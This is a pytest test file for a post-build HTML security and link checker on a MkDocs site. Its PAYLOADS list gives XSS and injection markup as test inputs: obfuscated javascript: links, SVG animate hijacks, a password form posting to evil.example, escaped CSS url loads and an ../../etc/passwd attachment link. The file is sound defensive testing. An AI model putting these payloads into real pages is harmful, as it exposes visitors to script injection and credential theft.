"""The post-build HTML check finds what MkDocs does not."""

from __future__ import annotations

from pathlib import Path

import pytest

from macros.editions.html_rules import material_templates, theme_scripts
from macros.editions.site_check import PageReport, _resolver, _target, check_site
from macros.worker import BATCH, EarlyCheck

PAGE = '<html><body><nav><a href="https://example.org/">out</a></nav><article class="md-content__inner">{}</article></body></html>'


def _site(tmp_path: Path, pages: dict[str, str]) -> Path:
    for rel, body in pages.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(PAGE.format(body), encoding="utf-8")
    return tmp_path


def test_clean_site_passes(tmp_path: Path) -> None:
    site = _site(
        tmp_path,
        {
            "index.html": '<h1 id="a">A</h1><a href="b/#x">b</a><a href="https://e.org">e</a>',
            "b/index.html": '<p id="x">x</p><a href="../#a">a</a><code>{{ raw }}</code>',
        },
    )
    assert check_site(site) == []


def test_each_kind_of_problem_is_reported(tmp_path: Path) -> None:
    body = (
        '<p id="d">1</p><p id="d">2</p>'
        '<img src=x onerror="alert(1)">'
        '<a href="javascript:alert(1)">j</a>'
        '<a href=" JaVa&#x09;Script:alert(2)">k</a>'
        '<a href="missing/">m</a>'
        '<a href="#nowhere">n</a>'
        "<script>alert(3)</script>"
        "<p>{{ leadrs }}</p><p>Macro Rendering Error</p>"
    )
    site = _site(tmp_path, {"index.html": body})
    assert check_site(site) == [
        "index.html:1: duplicate id 'd' (first at line 1)",
        "index.html:1: <img> has event handler onerror=",
        "index.html:1: <a> href has scheme 'javascript': 'javascript:alert(1)'",
        "index.html:1: <a> href has scheme 'javascript': ' JaVa\\tScript:alert(2)'",
        "index.html:1: <script> that is not one of the theme's own",
        "index.html:1: macro leftover '{{'",
        "index.html:1: macro leftover 'Macro Rendering Error'",
        "index.html:1: broken link 'missing/'",
        "index.html:1: link '#nowhere': no element with id 'nowhere'",
    ]


def test_problems_name_the_line_they_are_on(tmp_path: Path) -> None:
    """Lines are found only for problems (the check stays linear), and are the right ones."""
    body = '\n<p id="d">1</p>\n<a href="#d">ok</a>\n\n<p id="d">2</p>\n<a href="gone/">x</a>\n<a href="#d">again</a>'
    assert check_site(_site(tmp_path, {"index.html": body})) == [
        "index.html:5: duplicate id 'd' (first at line 2)",
        "index.html:6: broken link 'gone/'",
    ]


def _problems(tmp_path: Path, body: str, files: dict[str, str] | None = None, head: str = "") -> list[str]:
    site = _site(tmp_path, {"index.html": body})
    if head:
        page = site / "index.html"
        page.write_text(
            page.read_text(encoding="utf-8").replace("<html>", f"<html><head>{head}</head>"), "utf-8"
        )
    for rel, text in (files or {}).items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_text(text, encoding="utf-8")
    return check_site(site, theme=THEME)


THEME = theme_scripts(material_templates())
P = "index.html:1: "
# (payload in a page's body, every line the check must print). Each is markup that ran
# script, loaded from elsewhere or hijacked the page in a browser (issue 10, item 2).
PAYLOADS = [
    ("comment", "<!--><script>alert(1)</script>-->", [P + "<script> that is not one of the theme's own"]),
    ("cdata", "<![CDATA[><script>alert(1)</script>]]>", [P + "<script> that is not one of the theme's own"]),
    (
        "noscript",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        [P + "<noscript> is read differently by a browser that runs script than by this check"],
    ),
    (
        "textarea",
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
        [P + "<img> has event handler onerror="],
    ),
    (
        "out-of-the-article",
        "</article></div></body><script>alert(1)</script>",
        [P + "<script> that is not one of the theme's own"],
    ),
    (
        "svg-script",
        "<svg><script>alert(1)</script></svg>",
        [P + "<script> that is not one of the theme's own"],
    ),
    (
        "xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        [P + "<a> xlink:href has scheme 'javascript': 'javascript:alert(1)'"],
    ),
    (
        "animate",
        '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
        [P + "<animate> animates 'href' (links and handlers cannot be animated)"],
    ),
    (
        "set",
        '<svg><a><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>',
        [P + "<set> animates 'xlink:href' (links and handlers cannot be animated)"],
    ),
    (
        "animate-values",
        '<svg><a><animate attributeName="x" values="1;javascript:alert(1)"/></a></svg>',
        [P + "<animate> animates 'x' (links and handlers cannot be animated)"],
    ),
    (
        "srcdoc",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        [P + "<iframe> embeds another page", P + "<iframe> srcdoc= carries a whole page of its own"],
    ),
    (
        "entity-javascript",
        '<a href="&#106;avascript:alert(1)">x</a>',
        [P + "<a> href has scheme 'javascript': 'javascript:alert(1)'"],
    ),
    (
        "vbscript",
        '<a href="vbscript:msgbox(1)">x</a>',
        [P + "<a> href has scheme 'vbscript': 'vbscript:msgbox(1)'"],
    ),
    (
        "data-src",
        '<img src="data:image/svg+xml,x" alt="">',
        [P + "<img> src has scheme 'data': 'data:image/svg+xml,x'"],
    ),
    (
        "base",
        '<base href="https://evil.example/">',
        [P + "<base> changes where every link of the page points"],
    ),
    (
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        [P + "<meta http-equiv='refresh'> acts as a response header"],
    ),
    (
        "form",
        '<form action="https://evil.example/"><input name="password"></form>',
        [
            P + "<form> that is not one of the theme's (search, palette)",
            P + "<form> action= would submit a form",
        ],
    ),
    (
        "formaction",
        '<button formaction="javascript:alert(1)">x</button>',
        [P + "<button> formaction= would submit a form"],
    ),
    ("object", '<object data="x.pdf"></object>', [P + "<object> embeds an object that can run code"]),
    ("embed", '<embed src="x.swf">', [P + "<embed> embeds an object that can run code"]),
    (
        "template",
        "<template><img src=x onerror=alert(1)></template>",
        [P + "<template> holds markup hidden from this check"],
    ),
    (
        "style-element",
        "<style>@import url(https://evil.example/x.css);</style>",
        [P + "<style> styles (and loads) from the page itself; stylesheets belong in docs/assets/"],
    ),
    (
        "style-attribute",
        '<p style="background:url(https://evil.example/t.png)">x</p>',
        [P + "<p> style may not load anything or hide words: 'background:url(https://evil.example/t.png)'"],
    ),
    (
        "style-escape",
        '<p style="background:u\\72l(https://evil.example/t.png)">x</p>',
        [
            P
            + "<p> style may not load anything or hide words: 'background:u\\\\72l(https://evil.example/t.png)'"
        ],
    ),
    (
        "svg-paint",
        '<svg><path d="M0 0" fill="url(https://evil.example/p.svg#g)"/></svg>',
        [P + "<path> fill may refer only to a place on the page: 'url(https://evil.example/p.svg#g)'"],
    ),
    (
        "svg-marker-escape",
        '<svg><path d="M0 0" marker-end="u\\72l(https://evil.example/m.svg#m)"/></svg>',
        [
            P
            + "<path> marker-end may refer only to a place on the page: 'u\\\\72l(https://evil.example/m.svg#m)'"
        ],
    ),
    (
        "svg-filter-beside-a-place",
        '<svg><g filter="url(#ok) url(//evil.example/f.svg#f)"></g></svg>',
        [P + "<g> filter may refer only to a place on the page: 'url(#ok) url(//evil.example/f.svg#f)'"],
    ),
    (
        "srcset",
        '<img alt="" src="a.png" srcset="a.png 1x, https://evil.example/t.png 2x">',
        [P + "<img> loads an external resource: 'https://evil.example/t.png'"],
    ),
    (
        "attachment",
        '<a rel="attachment" href="../../etc/passwd">x</a>',
        [
            P + "<a rel=attachment> would embed the file it names in the PDF",
            P + "broken link '../../etc/passwd'",
        ],
    ),
    (
        "leftover-attribute-list",
        "<table><tr><td>{ .editorial }</td></tr></table><p>text {: #x }</p>",
        [
            P + "attribute list '{ .editorial }' left as text (it did not attach: write it on the line right "
            "after the paragraph or heading it marks, or remove it)",
            P + "attribute list '{: #x }' left as text (it did not attach: write it on the line right after "
            "the paragraph or heading it marks, or remove it)",
        ],
    ),
]


@pytest.mark.parametrize(("body", "expected"), [p[1:] for p in PAYLOADS], ids=[p[0] for p in PAYLOADS])
def test_payload_in_a_page_is_reported(tmp_path: Path, body: str, expected: list[str]) -> None:
    assert _problems(tmp_path, body, {"a.png": ""}) == expected


def test_head_is_checked_too(tmp_path: Path) -> None:
    head = '<script>alert(1)</script><meta http-equiv="refresh" content="0;url=x"><base href="https://evil.example/">'
    assert _problems(tmp_path, "", head=head) == [
        P + "<script> that is not one of the theme's own",
        P + "<meta http-equiv='refresh'> acts as a response header",
        P + "<base> changes where every link of the page points",
    ]


def test_the_themes_scripts_pass_and_others_do_not(tmp_path: Path) -> None:
    scope = (
        '__md_scope=new URL("../",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    )
    scope += '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
    head = (
        f"<script>{scope}</script>"
        '<script id="__config" type="application/json">{"base": "."}</script>'
        '<script src="assets/javascripts/bundle.1234.min.js"></script>'
    )
    files = {"assets/javascripts/bundle.1234.min.js": "", "downloads/x.js": ""}
    assert _problems(tmp_path, "", files, head=head) == []
    others = (
        f"<script>{scope.replace('../', '../' + chr(34) + ');alert(1);(' + chr(34))}</script>"
        '<script type="application/json">{}</script>'
        '<script src="downloads/x.js"></script>'
        '<script src="https://cdn.example/x.js"></script>'
    )
    assert _problems(tmp_path, "", files, head=others) == [
        P + "<script> that is not one of the theme's own",
        P + "<script> that is not one of the theme's own",
        P + "<script> loads 'downloads/x.js', which is not a script file of the site",
        P + "<script> loads 'https://cdn.example/x.js', which is not a script file of the site",
        P + "<script> loads an external resource: 'https://cdn.example/x.js'",
    ]


def test_stylesheets_may_not_import_or_load_from_elsewhere(tmp_path: Path) -> None:
    css = 'a{color:red}\n@import "x.css";\nb{background:url("https://evil.example/t.png")}\ni{background:url(data:image/png;base64,AA)}\n'
    assert _problems(tmp_path, "", {"assets/x.css": css}) == [
        "assets/x.css:2: stylesheet loads '@import' (only files of the site)",
        "assets/x.css:3: stylesheet loads 'url(\"https://evil.example/t.png' (only files of the site)",
    ]


def _early(site: Path, rels: list[str], files: frozenset[str] | None = None) -> dict[str, PageReport]:
    """Pages read as a build writes them, through the worker process the build uses."""
    found = frozenset(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file())
    early = EarlyCheck(site, (), found if files is None else files)
    for rel in rels:
        early.page_made(rel)
    early._flush(early.made)  # every page to the worker, read there (else the build reads
    early.made = []  # what the worker has not been handed: see test_record_bodies.py)
    for _, future in early.pending:
        future.result(timeout=120)
    return early.reports()


def test_pages_read_while_written_give_the_same_problems_as_reading_the_files(tmp_path: Path) -> None:
    site = _site(
        tmp_path,
        {
            "index.html": '<p id="d">1</p><p id="d">2</p><a href="b/#x">b</a><a href="b/#y">y</a>',
            "b/index.html": '<p id="x">x</p><script>alert(1)</script>',
        },
    )
    reports = _early(site, ["index.html", "b/index.html"])
    assert set(reports) == {"index.html", "b/index.html"} and all(r.digest for r in reports.values())
    assert (
        check_site(site, theme=(), checked=reports)
        == check_site(site, theme=())
        == [
            "b/index.html:1: <script> that is not one of the theme's own",
            "index.html:1: duplicate id 'd' (first at line 1)",
            "index.html:1: link 'b/#y': no element with id 'y'",
        ]
    )


def test_pages_go_to_the_worker_in_batches_once_written(tmp_path: Path) -> None:
    rels = [f"p{n}/index.html" for n in range(BATCH + 5)]
    site = _site(tmp_path, dict.fromkeys(rels, "<p>x</p>"))
    early = EarlyCheck(site, (), frozenset(rels))
    for rel in rels[: BATCH + 1]:
        early.page_made(rel)
    # the last page made may not be written yet: it waits for the next batch
    assert len(early.pending) == 1 and early.made == [rels[BATCH]]
    for rel in rels[BATCH + 1 :]:
        early.page_made(rel)
    assert set(early.reports()) == set(rels)


def test_a_page_changed_after_it_was_read_is_read_again(tmp_path: Path) -> None:
    site = _site(tmp_path, {"index.html": '<p id="x">x</p><a href="#x">x</a>'})
    reports = _early(site, ["index.html"])
    assert check_site(site, theme=(), checked=reports) == []
    (site / "index.html").write_text(
        PAGE.format('<a href="#x">x</a><a href="javascript:1">j</a>'), encoding="utf-8"
    )
    assert check_site(site, theme=(), checked=reports) == [
        "index.html:1: <a> href has scheme 'javascript': 'javascript:1'",
        "index.html:1: link '#x': no element with id 'x'",
    ]


def test_a_script_file_vouched_for_during_the_build_must_still_be_in_the_site(tmp_path: Path) -> None:
    site = _site(tmp_path, {"index.html": '<script src="assets/app.js"></script>'})
    reports = _early(site, ["index.html"], files=frozenset({"index.html", "assets/app.js"}))
    assert reports["index.html"].problems == [] and reports["index.html"].scripts == ["assets/app.js"]
    assert check_site(site, theme=(), checked=reports) == [
        "index.html:1: <script> loads 'assets/app.js', which is not a script file of the site"
    ]


FILES = {"index.html", "a/index.html", "a/b/index.html", "a/b/c.html", "d/index.html", "x", "x/index.html"}
PAGES = ["index.html", "a/index.html", "a/b/index.html", "a/b/c.html", "d/index.html"]
HREFS = [
    "#top", "", "?q=1#f", "./", "../", "../#f", "../../", "../../../", "../../../x", "../b/",
    "../b/c.html#p%20q", "b/../../d/", "../../a/b/./c.html", "x", "x/", "../x", "../../x#y",
    "../a:b", "../?q", "..//d/", "//host/p", "/abs/", "../d/#a%23b", "../../d", "a/b/c.html?x#y",
    "#a%20b", "#a\tb", "#a\nb", "#a\rb", "#a#b", "#", "../#a\nb",
    "../ x/", " #x", "\t", "\t#x", "../\t#x", "\x00#x", "../\x01x/", "../%2Fetc/", "../x y/", "../é/",
    "../b/#", "../../a/b/c.html#p q", "../x/#\u00a0",
]  # fmt: skip


@pytest.mark.parametrize("order", [PAGES, PAGES[::-1]])
def test_links_resolved_once_per_folder_resolve_as_each_alone(order: list[str]) -> None:
    """The check remembers a link's target by the folder it climbs to, across pages; every
    link of every page must come out as `_target` works it out for that page alone."""
    resolver = _resolver(FILES)
    for page in order * 2:  # later pages (and the second round) answer from what is remembered
        resolve = resolver(page)
        assert [resolve(href) for href in HREFS] == [_target(FILES, page, href) for href in HREFS], page


def test_svg_paint_may_refer_to_a_place_on_the_page(tmp_path: Path) -> None:
    """Our graphs' arrowheads (marker-end="url(#…)"), colours and gradients by id pass."""
    body = (
        '<svg><defs><marker id="a-arrow"></marker><linearGradient id="g"></linearGradient></defs>'
        '<path d="M0 0" fill="none" stroke="#1f77b4" marker-end="url(#a-arrow)"/>'
        '<rect width="1" height="1" fill="url(#g)" clip-path="none"/></svg>'
    )
    assert _problems(tmp_path, body) == []
